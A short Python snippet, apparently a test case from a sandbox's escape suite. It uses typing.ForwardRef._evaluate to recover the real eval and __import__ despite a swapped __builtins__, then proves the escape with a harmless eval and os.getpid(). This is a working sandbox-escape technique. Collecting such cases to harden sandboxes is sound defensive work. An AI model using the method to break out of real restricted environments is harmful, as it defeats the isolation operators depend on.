# technique: typing.ForwardRef('eval', module='builtins')._evaluate evaluates the name in sys.modules['builtins'].__dict__ (the sink only swapped __builtins__ in a copy of it), so the bare names eval and __import__ resolve to the real builtins
# configs: default, common
# With nothing allowed `import typing` is refused.
import typing
u = '_' * 2
real_eval = typing.ForwardRef('eval', module='builtins')._evaluate(None, None, recursive_guard=frozenset())
real_import = typing.ForwardRef(u + 'import' + u, module='builtins')._evaluate(None, None, recursive_guard=frozenset())
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid()]}}]
